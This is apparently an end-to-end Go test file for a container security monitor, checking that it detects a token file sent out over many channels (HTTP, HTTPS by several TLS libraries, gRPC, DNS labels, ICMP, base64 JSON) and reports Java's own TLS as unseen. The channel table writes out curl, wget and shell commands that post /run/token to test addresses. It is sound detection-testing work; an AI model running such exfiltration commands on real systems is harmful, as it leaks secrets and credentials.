// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// Where the programs of the channels find what they send, and what sends it.
const (
	secretPath = "/run/token"
	sendPath   = "/usr/share/send.py"
	classPath  = "/usr/share/send"
	leakyName  = "docker.io/acme/leaky:1"
	javaName   = "docker.io/acme/java:1"
)

// labelCut is where send.py cuts the token for labels.
const labelCut = 18

// javaAddress is where Java sends.
const javaAddress = "203.0.113.60"

// channel is a way in which a secret leaves, and how it is told.
type channel struct {
	name string
	// to is the address that it is sent to, the name server's if it is empty; port is the port, 0 where there is none.
	to   string
	port int
	// argv sends it; HOST is the address.
	argv []string
	// program sends it: how its path begins.
	program string
	// source is how it is read, application, part and layers are where it is found.
	source, application, part string
	layers                    []string
}

// address is where the channel leads.
func (ch *channel) address(r *rig.Rig) string {
	if ch.to == "" {
		return r.Lab.Gateway().String()
	}
	return ch.to
}

// command is what sends the secret.
func (ch *channel) command(r *rig.Rig) []string {
	argv := slices.Clone(ch.argv)
	for i, arg := range argv {
		argv[i] = strings.ReplaceAll(arg, "HOST", ch.address(r))
	}
	return argv
}

// python has send.py send it.
func python(how string) []string {
	return []string{"/usr/bin/python3", sendPath, how, "HOST", secretPath}
}

// piped has curl send what a shell makes of it.
func piped(from, header string) []string {
	return []string{"/bin/sh", "-c", from + " | curl -sS -o /dev/null --data-binary @- -H '" + header + "' http://HOST/upload"}
}

// channels are in the order in which they are tried.
var channels = []channel{
	{name: "http", to: "203.0.113.40", port: 80, argv: []string{"curl", "-sS", "-o", "/dev/null", "--data-binary", "@" + secretPath, "http://HOST/upload"},
		program: "/usr/bin/curl", source: "packet", application: "http1", part: "body"},
	{name: "https by curl", to: "203.0.113.41", port: 443, argv: []string{"curl", "-sSk", "--http1.1", "-o", "/dev/null", "--data-binary", "@" + secretPath, "https://HOST/upload"},
		program: "/usr/bin/curl", source: "openssl", application: "http1", part: "body"},
	{name: "https by Go", to: "203.0.113.42", port: 443, argv: []string{"/usr/bin/sender", "https", "https://HOST/upload", secretPath},
		program: "/usr/bin/sender", source: "go", application: "http1", part: "body"},
	{name: "https by Go, stripped", to: "203.0.113.43", port: 443, argv: []string{"/usr/bin/sender-stripped", "https", "https://HOST/upload", secretPath},
		program: "/usr/bin/sender-stripped", source: "go", application: "http1", part: "body"},
	{name: "https by Python", to: "203.0.113.44", port: 443, argv: python("https"),
		program: "/usr/bin/python3", source: "openssl", application: "http1", part: "body"},
	{name: "https by GnuTLS", to: "203.0.113.45", port: 443,
		argv:    []string{"/usr/bin/wget", "-q", "--no-check-certificate", "-O", "/dev/null", "--post-file", secretPath, "https://HOST/upload"},
		program: "/usr/bin/wget", source: "gnutls", application: "http1", part: "body"},
	{name: "https by NSS", to: "203.0.113.46", port: 443, argv: python("nss"),
		program: "/usr/bin/python3", source: "nss", application: "http2", part: "body"},
	{name: "http/2", to: "203.0.113.47", port: 443, argv: []string{"curl", "-sSk", "--http2", "-o", "/dev/null", "--data-binary", "@" + secretPath, "https://HOST/upload"},
		program: "/usr/bin/curl", source: "openssl", application: "http2", part: "body"},
	{name: "grpc", to: "203.0.113.48", port: grpcPort, argv: []string{"/usr/bin/sender-stripped", "grpc", fmt.Sprintf("HOST:%d", grpcPort), secretPath},
		program: "/usr/bin/sender-stripped", source: "packet", application: "grpc", part: "body"},
	{name: "gzip", to: "203.0.113.49", port: 80, argv: piped("gzip -c "+secretPath, "Content-Encoding: gzip"),
		program: "/usr/bin/curl", source: "packet", application: "http1", part: "body", layers: []string{"gzip"}},
	{name: "chunked", to: "203.0.113.50", port: 80, argv: python("chunked"),
		program: "/usr/bin/python3", source: "packet", application: "http1", part: "body", layers: []string{"chunked"}},
	{name: "base64 in json", to: "203.0.113.51", port: 80,
		argv:    piped(`printf '{"name":"backup","data":"%s"}' "$(base64 -w 0 `+secretPath+`)"`, "Content-Type: application/json"),
		program: "/usr/bin/curl", source: "packet", application: "http1", part: "json-string", layers: []string{"base64"}},
	{name: "websocket", to: "203.0.113.52", port: 80, argv: []string{"/usr/bin/sender-stripped", "websocket", "ws://HOST/socket", secretPath},
		program: "/usr/bin/sender-stripped", source: "packet", application: "websocket", part: "body"},
	{name: "labels of a name", port: 53, argv: python("dns"),
		program: "/usr/bin/python3", source: "packet", application: "dns", part: "dns-name", layers: []string{"labels"}},
	{name: "base32 in a name", port: 53, argv: python("resolver"),
		program: "/usr/bin/python3", source: "packet", application: "dns", part: "dns-name", layers: []string{"labels", "base32"}},
	{name: "icmp", to: "203.0.113.53", argv: python("icmp"),
		program: "/usr/bin/python3", source: "packet", application: "icmp", part: "payload"},
	{name: "sendfile", to: "203.0.113.54", port: discardPort, argv: python("sendfile"),
		program: "/usr/bin/python3", source: "packet", application: "unknown", part: "payload"},
	{name: "path of a request", to: "203.0.113.55", port: 80, argv: python("path"),
		program: "/usr/bin/python3", source: "packet", application: "http1", part: "url"},
}

// leakyImage has the programs of all channels.
func leakyImage(t *testing.T) lab.Image {
	t.Helper()
	image, err := lab.Python()
	if err != nil {
		t.Fatal(err)
	}
	files, err := lab.HostBinaries("/usr/bin/curl", "/usr/bin/wget", "/usr/lib/"+multiarch(t)+"/libcurl-nss.so.4")
	if err != nil {
		t.Fatalf("%v (Debian packages curl, wget, libcurl3-nss)", err)
	}
	// NSS loads its parts by name.
	modules, err := lab.HostPackage("libnss3")
	if err != nil {
		t.Fatal(err)
	}
	files = append(files, modules...)
	dir := t.TempDir()
	for name, flags := range map[string]string{"sender": "", "sender-stripped": "-s -w"} {
		path := filepath.Join(dir, name)
		cmd := exec.CommandContext(t.Context(), "go", "build", "-trimpath", "-ldflags="+flags, "-o", path, "./sender")
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		files = append(files, lab.File{Path: "/usr/bin/" + name, Mode: 0o755, Source: path})
	}
	files = append(files, lab.File{Path: sendPath, Mode: 0o644, Source: "testdata/channels/send.py"})
	return image.With(leakyName, files...)
}

// multiarch is the folder of the machine's libraries.
func multiarch(t *testing.T) string {
	t.Helper()
	found, err := filepath.Glob("/usr/lib/*/libcurl-nss.so.4")
	if err != nil || len(found) == 0 {
		t.Fatalf("libcurl-nss.so.4 is nowhere (Debian package libcurl3-nss): %v", err)
	}
	return filepath.Base(filepath.Dir(found[0]))
}

// runsJava has a program for Java, translated by Debian's Eclipse compiler, send the secret each second by Java's own TLS.
func runsJava(t *testing.T, r *rig.Rig, mounts []lab.Mount) *lab.Container {
	t.Helper()
	classes := t.TempDir()
	cmd := exec.CommandContext(t.Context(), "java", "-cp", "/usr/share/java/eclipse-jdt-core.jar",
		"org.eclipse.jdt.internal.compiler.batch.Main", "-17", "-proc:none", "-d", classes, "testdata/channels/Send.java")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v (Debian packages default-jre-headless, libeclipse-jdt-core-java)\n%s", err, out)
	}
	home, err := filepath.EvalSymlinks("/usr/lib/jvm/default-java")
	if err != nil {
		t.Fatal(err)
	}
	files, err := lab.HostBinaries(home+"/bin/java", home+"/lib/server/libjvm.so")
	if err != nil {
		t.Fatal(err)
	}
	image, err := lab.NewImage(javaName, append(files, lab.File{Path: classPath + "/Send.class", Mode: 0o644, Source: filepath.Join(classes, "Send.class")}))
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Lab.Import(t.Context(), image); err != nil {
		t.Fatal(err)
	}
	conf := "/etc/" + strings.TrimSuffix(filepath.Base(home), "-"+runtime.GOARCH)
	// The runtime is large: it comes from the node.
	return run(t, runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "billing"}), lab.ContainerConfig{
		Name: "java", Image: javaName,
		Command: []string{home + "/bin/java", "-Xint", "-Xmx64m", "-cp", classPath, "Send", "https://" + javaAddress + "/upload", secretPath},
		Mounts: append(slices.Clone(mounts), lab.Mount{HostPath: home + "/lib", ContainerPath: home + "/lib", ReadOnly: true},
			lab.Mount{HostPath: home + "/conf", ContainerPath: home + "/conf", ReadOnly: true},
			lab.Mount{HostPath: conf, ContainerPath: conf, ReadOnly: true}),
	})
}

// javaIsOpaque checks that what Java sends is not seen, and that the node says so: TLS of Java is Java's own, within no library
// that a probe could be put into.
func javaIsOpaque(t *testing.T, r *rig.Rig, c *lab.Container) {
	err := wait.For(t.Context(), 40*time.Second, func() error {
		n, err := r.Node(t.Context())
		if err != nil {
			return err
		}
		if n.Health != nil {
			for _, o := range n.Health.Opaque {
				if o.Container == "shop/Pod/billing/java" && strings.HasSuffix(o.Executable, "/bin/java") {
					t.Logf("%+v", o)
					return nil
				}
			}
		}
		return fmt.Errorf("the node does not list it: %+v", n.Health)
	})
	if err != nil {
		text, _ := c.Logs()
		t.Errorf("%v\nJava says %q", err, text)
	}
	if !slices.ContainsFunc(node(t, r).Capabilities, func(row view.Capability) bool { return row.Signal == "content_java" && row.See == "no" }) {
		t.Error("no row of the capability table says that TLS of Java is not seen")
	}
	alerts, err := r.Alerts(t.Context(), "--rule", "Sensitive data sent")
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range alerts {
		if a.Event.Network != nil && a.Event.Network.RemoteAddress == javaAddress {
			t.Errorf("what Java sends is seen: %s; the documentation says otherwise", a.Output)
		}
	}
}
